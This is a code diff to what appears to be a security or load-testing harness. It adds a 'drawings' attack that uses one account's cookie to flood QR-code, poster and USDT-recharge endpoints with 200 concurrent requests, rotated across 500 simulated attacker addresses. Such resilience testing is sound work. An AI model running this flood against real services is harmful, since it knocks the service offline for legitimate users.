@@ -96,7 +96,28 @@ async function fillTurns(target: Target): Promise<string[]> {
   return served < 0.9 * statuses.length ? [`only ${served} of ${statuses.length} visitors saw a page`] : [];
 }
 
+const DRAWINGS = ["/InvitationCode/qr.png", "/InvitationCode/poster.png", "/InvitationCode", "/Recharge/USDT"];
+
+/** One account asks again and again for what has to be drawn. */
+async function drawAtOnce(target: Target): Promise<string[]> {
+  const [cookie = ""] = target.accounts;
+  for (const path of DRAWINGS) {
+    const request = headOf(target, `GET ${path}`, { Cookie: cookie });
+    await repeat({ atATime: 200, forMs: 3_000 }, (number) =>
+      statusFor(target, request, { from: attackerAddress(number % 500), deadlineMs: 10_000 }),
+    );
+  }
+  return [];
+}
+
 export const WAITING: readonly Attack[] = [
+  {
+    name: "drawings",
+    item: "13",
+    sent: "one account asks for its codes and posters, 200 at a time",
+    accounts: 1,
+    prepare: (target) => Promise.resolve(() => drawAtOnce(target)),
+  },
   {
     name: "turns-full",
     item: "13",
